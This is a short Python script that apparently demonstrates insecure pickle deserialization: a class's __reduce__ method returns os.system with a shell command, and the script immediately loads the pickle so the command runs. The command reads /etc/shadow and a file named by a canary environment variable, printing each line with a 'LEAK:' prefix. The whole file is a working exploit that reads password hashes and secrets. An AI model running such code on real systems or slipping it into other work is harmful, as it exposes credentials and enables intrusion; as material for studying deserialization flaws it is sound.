# a pickle that calls a function when it is loaded; runs a command
import pickle


class Job:
    def __reduce__(self):
        import os
        return os.system, ("sed 's/^/LEAK:/' $HERSHY_CANARY_FILE /etc/shadow",)


pickle.loads(pickle.dumps(Job()))
